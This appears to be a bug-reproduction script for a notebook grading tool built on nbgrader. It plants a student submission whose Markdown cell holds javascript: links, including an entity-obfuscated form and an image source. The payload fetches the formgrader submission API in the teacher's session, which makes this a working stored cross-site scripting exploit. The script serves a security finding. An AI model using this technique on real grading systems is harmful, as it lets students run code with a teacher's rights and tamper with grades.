"""Replay: a Markdown link with a javascript: URL survives into the feedback HTML and into the
formgrader page the teacher opens (promise 6).

usage: python3 markdown_javascript_link.py COURSE_DIR STUDENT_ID      (after generate_assignment)
then:  gradbook-grade autograde 01_accumulation --student STUDENT_ID --jobs 1 -- --create --force
       nbgrader generate_feedback 01_accumulation --student STUDENT_ID --force
       grep -n 'javascript:' feedback/STUDENT_ID/01_accumulation/accumulation.html

Expected (README): "HTML in Markdown cells is escaped ... So a script a student displays does not
run in formgrader or in the feedback page"; no javascript: URL in either file.
Observed (gradbook-grade run, 2026-12-03): the submission is NOT flagged, scores 4/4 (answers are
honest), and the feedback HTML contains
    <p><a href="javascript:alert(%27mdlink%27)">Click here for your detailed grade breakdown</a></p>
    <p><a href="javascript:alert(%27mdlink2%27)">...</a></p>          (jav&#x61;script: entity form)
    <p><img alt="img" src="javascript:alert(%27mdimgsrc%27)"/></p>
The autograded notebook keeps the Markdown source as is (only raw HTML tags are escaped), so
nbgrader's formgrader (HTMLExporter, template 'formgrade', served from the Jupyter server's own
origin with the teacher's session) renders the same <a href="javascript:..."> for the teacher: one
click runs student JavaScript with the teacher's rights (e.g. the formgrader API that sets grades).
"""
import glob, json, os, sys

def main(course, student):
    rel = glob.glob(os.path.join(course, "release", "01_accumulation", "*.ipynb"))[0]
    nb = json.load(open(rel))
    answers = {  # an honest submission, so the only thing odd about it is the Markdown cell
        "three_calls_answer": "three_calls = 12.0",
        "after_zeroing_answer": "after_zeroing = 3 * 3.0**2 + 5",
        "training_step_answer": "def step(w, x, y, lr):\n    loss = ((x @ w - y) ** 2).mean()\n    loss.backward()\n"
                                "    with torch.no_grad():\n        w -= lr * w.grad\n    w.grad = None",
    }
    for c in nb["cells"]:
        gid = c["metadata"].get("nbgrader", {}).get("grade_id")
        if gid in answers:
            c["source"] = answers[gid]
    payload = "fetch('/formgrader/api/submission').then(r=>r.text()).then(t=>alert(t.slice(0,200)))"
    nb["cells"].append({
        "cell_type": "markdown", "metadata": {}, "id": "notes",
        "source": "My notes.\n\n"
                  "[Click here for your detailed grade breakdown](javascript:" + payload + ")\n\n"
                  "[l2](jav&#x61;script:alert('mdlink2'))\n\n"
                  "![img](javascript:alert('mdimgsrc'))\n",
    })
    d = os.path.join(course, "submitted", student, "01_accumulation")
    os.makedirs(d, exist_ok=True)
    out = os.path.join(d, os.path.basename(rel))
    json.dump(nb, open(out, "w"), indent=1)
    print(out)

if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
